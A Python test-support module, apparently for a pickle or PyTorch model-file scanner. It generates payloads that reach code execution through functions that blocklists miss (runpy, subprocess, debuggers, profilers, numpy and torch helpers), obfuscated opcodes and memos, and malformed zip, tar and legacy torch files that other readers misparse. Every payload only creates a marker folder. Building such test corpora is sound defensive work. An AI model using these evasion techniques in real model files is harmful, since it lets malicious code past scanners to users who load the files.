"""More ways to run code: functions that lists of bad names forget, operands that hide, and whole files that mislead.

Like those of `pickle_attacks`, each only makes the folder or file of a given name.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from pathlib import Path

from pickle_attacks import (
    MAGIC,
    STOP,
    Payload,
    call,
    legacy,
    legacy_with,
    nested_with,
    raw,
    short,
    stack_global,
    tar_with,
    text,
    zip_with,
)  # fmt: skip

P4 = b"\x80\x04"


def _code(marker: str) -> str:
    return f"import os; os.mkdir({marker!r})"


def _expression(marker: str) -> str:
    return f"__import__('os').mkdir({marker!r})"


def _inner(marker: str) -> bytes:
    return call("os", "mkdir", text(marker)) + STOP


def _dotted(module: str, name: str, *args: bytes) -> bytes:
    return P4 + stack_global(short(module), short(name)) + b"(" + b"".join(args) + b"tR"


def _with(attribute: str, then: bytes) -> bytes:
    """A namespace with os.mkdir as an attribute, which an opcode calls."""
    return call("types", "SimpleNamespace") + b"}" + text(attribute) + b"cos\nmkdir\nsb" + then


def _function(marker: str) -> bytes:
    body = compile(_code(marker), "x", "exec")
    return call("types", "FunctionType", call("marshal", "loads", raw(marshal.dumps(body))), b"}") + b")R"


_INTERPRETERS = "_interpreters" if sys.version_info >= (3, 13) else "_xxsubinterpreters"

#: Live in any Python: what lists of bad names have forgotten at one time, and operands that are not where one looks.
PYTHON: dict[str, Payload] = {
    "runpy": lambda m: call("runpy", "_run_code", text(_code(m)), b"}"),
    "shutil": lambda m: call("shutil", "copyfile", text(__file__), text(m)),
    "a subprocess": lambda m: call("subprocess", "call", b"](" + text("mkdir") + text(m) + b"e"),
    "uuid": lambda m: call("uuid", "_get_command_stdout", text("mkdir"), text(m)),
    "a mailbox": lambda m: call("imaplib", "IMAP4_stream", text(f"mkdir '{m}'")),
    "support of macOS": lambda m: call("_osx_support", "_read_output", text(f"mkdir '{m}'")),
    "a forward reference": lambda m: call("typing", "_eval_type", call("typing", "ForwardRef", text(_expression(m))), b"}", b"}"),
    "an interpreter": lambda m: _dotted("code", "InteractiveInterpreter.runsource", call("code", "InteractiveInterpreter"), text(_code(m))),
    "another interpreter": lambda m: call(_INTERPRETERS, "run_string", call(_INTERPRETERS, "create"), text(_code(m))),
    "spawnv": lambda m: call("multiprocessing.util", "spawnv_passfds", raw(b"/bin/mkdir"), b"](" + text("mkdir") + text(m) + b"e", b"]"),
    "a debugger": lambda m: _dotted("bdb", "Bdb.run", call("bdb", "Bdb"), text(_code(m))),
    "a method of a profiler": lambda m: _dotted("cProfile", "Profile.run", call("cProfile", "Profile"), text(_code(m))),
    "a tracer": lambda m: _dotted("trace", "Trace.run", call("trace", "Trace", b"K\0", b"K\0"), text(_code(m))),
    "a method of a path": lambda m: _dotted("pathlib", "Path.touch", call("pathlib", "Path", text(m))),
    "a function of marshalled code": _function,
    "a pickle for the C module": lambda m: call("_pickle", "loads", raw(_inner(m))),
    "a pickle in a buffer": lambda m: call("pickle", "load", call("io", "BytesIO", raw(_inner(m)))),
    "numpy's table writer": lambda m: call("numpy", "savetxt", text(m), b"](K\1e"),
    "numpy's rundown of strings": lambda m: call("numpy.testing._private.utils", "runstring", text(_code(m)), b"}"),
    "numpy's Fortran": lambda m: call("numpy.f2py.crackfortran", "myeval", text(_expression(m)), b"}", b"}"),
    "a name made by a harmless call": lambda m: P4 + short("os") + call("builtins", "str", text("mkdir")) + b"\x93(" + text(m) + b"tR",
    "a name that is an attribute": lambda m: P4 + call("builtins", "getattr", text("OS"), text("lower")) + b")R" + short("mkdir") + b"\x93(" + text(m) + b"tR",
    "numbered and unnumbered memos": lambda m: P4 + short("os") + b"q\x010" + short("mkdir") + b"\x940" + short("os") + b"h\x01\x93(" + text(m) + b"tR",
    "a double that is dropped": lambda m: P4 + short("os") + b"20" + short("OrderedDict") + b"0" + short("mkdir") + b"\x93(" + text(m) + b"tR",
    "a name in the registry": lambda m: call("copyreg", "add_extension", text("os"), text("mkdir"), b"M\x39\x30") + b"0\x83\x39\x30(" + text(m) + b"tR",
    "NEWOBJ_EX": lambda m: P4 + b"cbuiltins\ntuple\n(cbuiltins\nmap\n(cos\nmkdir\n(" + text(m) + b"tt\x81t}\x92",
    "BUILD of slots": lambda m: call("types", "SimpleNamespace") + b"N}" + text("append") + b"cos\nmkdir\ns\x86b" + text(m) + b"a",
    "APPENDS": lambda m: _with("append", b"(" + text(m) + b"e"),
    "ADDITEMS": lambda m: _with("add", b"(" + text(m) + b"\x90"),
    "a Counter of a map": lambda m: call("collections", "Counter", call("builtins", "map", b"cos\nmkdir\n", b"(" + text(m) + b"t")),
    "a frame without end": lambda m: P4 + b"\x95" + struct.pack("<Q", 12) + b"N0N0N0N0N0N0" + call("posix", "mkdir", text(m)),
    "escaped letters of protocol 0": lambda m: b"cos\nmkdir\n(S'" + "".join(f"\\x{ord(c):02x}" for c in m).encode() + b"'\ntR",
}  # fmt: skip

#: Live where torch is: functions of torch that run, load or write.
TORCH: dict[str, Payload] = {
    "torch.save": lambda m: call("torch", "save", b"N", text(m)),
    "a download of torch's": lambda m: call("torch.hub", "download_url_to_file", text(f"file://{__file__}"), text(m), b"N", b"\x89"),
    "torch's survey of the system": lambda m: call("torch.utils.collect_env", "run", text(f"mkdir '{m}'")),
    "torch's wrapper of exec": lambda m: call("torch.jit.unsupported_tensor_ops", "execWrapper", text(_code(m)), b"}", b"}"),
    "torch's settings": lambda m: call("torch._dynamo.config", "load_config", raw(_inner(m))),
    "a storage that maps a file": lambda m: _dotted("torch", "UntypedStorage.from_file", text(m), b"\x88", b"K\4"),
}  # fmt: skip


def _reference(inside: bytes) -> bytes:
    """A tensor whose storage has something else for its place."""
    pid = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + inside + b"K\1tQ"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + pid + b"K\0(K\1t(K\1t\x89NtR"


def _wrong_sum(marker: str) -> bytes:
    archive = zip_with(_inner(marker), version=b"3")
    return archive.replace(struct.pack("<I", zlib.crc32(_inner(marker))), b"\1\2\3\4")


def _one_of_two(marker: str) -> bytes:
    """Two files of one name, of which readers take different ones."""
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as file:
        warnings.simplefilter("ignore")
        file.writestr("m/version", b"3")
        for data in (b"\x80\x02}.", _inner(marker)):
            file.writestr("m/data.pkl", data)
    return out.getvalue()


def _benign_zip() -> bytes:
    return zip_with(b"\x80\x02}.", version=b"3")


def _magic(marker: str) -> bytes:
    return call("builtins", "eval", text(f"[{_expression(marker)}, {MAGIC}][1]")) + STOP


#: Whole files that torch runs when it loads them, though other readers see something harmless or something broken.
FILES: dict[str, Payload] = {
    "a wrong sum": _wrong_sum,
    "large letters": lambda m: zip_with(_inner(m), version=b"3").replace(b"m/data.pkl", b"m/DATA.PKL"),
    "two files of one name": _one_of_two,
    "another size before the data": lambda m: zip_with(_inner(m), version=b"3").replace(struct.pack("<2I", len(_inner(m)), len(_inner(m))), struct.pack("<2I", 9, 9), 1),
    "a pickle before an archive": lambda m: legacy_with(_inner(m)) + pickle.dumps([], 2) + _benign_zip(),
    "a packed archive with a note": lambda m: zip_with(_inner(m), zipfile.ZIP_DEFLATED, version=b"3"),
    "an archive of the oldest kind": lambda m: tar_with(pickle=_inner(m)),
    "a magic number that is computed": lambda m: legacy(_magic(m)),
    "the facts of the machine": lambda m: legacy(*[pickle.dumps(v, 2) for v in (MAGIC, 1001)], call("builtins", "dict", b"]2" + call("os", "mkdir", text(m)) + b"00") + STOP),
    "the keys of the storages": lambda m: legacy_with(pickle.dumps({}, 2)) + _inner(m),
    "a file within a file": lambda m: nested_with(_inner(m)),
    "the place of a storage": lambda m: zip_with(b"\x80\x02" + _reference(call("os", "mkdir", text(m))) + STOP, data__0=b"1234", version=b"3"),
    "a broken end": lambda m: zip_with(b"\x80\x02" + call("os", "mkdir", text(m)) + b"\xff\xff", version=b"3"),
    "an end that is missing": lambda m: b"\x80\x02" + call("os", "mkdir", text(m)),
    "a text that is too long": lambda m: b"\x80\x02" + call("os", "mkdir", text(m)) + b"X\xff\xff\xff\x7f",
    "letters that are none": lambda m: b"\x80\x02" + call("os", "mkdir", text(m)) + b"X\1\0\0\0\xff.",
}  # fmt: skip

_SCRIPT = """
import sys, torch

class Evil(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self):
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]):
        self.path = state[0]
        torch.save(torch.ones(1), self.path)
        self.training = state[1]

if sys.argv[1] == "save":
    torch.jit.save(torch.jit.script(Evil(sys.argv[3])), sys.argv[2])
else:
    torch.jit.load(sys.argv[2])
"""


def run_script(folder: Path, *words: str) -> None:
    """In another process: `save FILE MARKER` a TorchScript file that writes as it is loaded, or `load FILE`."""
    (folder / "script.py").write_text(_SCRIPT)
    subprocess.run([sys.executable, str(folder / "script.py"), *words], check=True, timeout=120, capture_output=True)
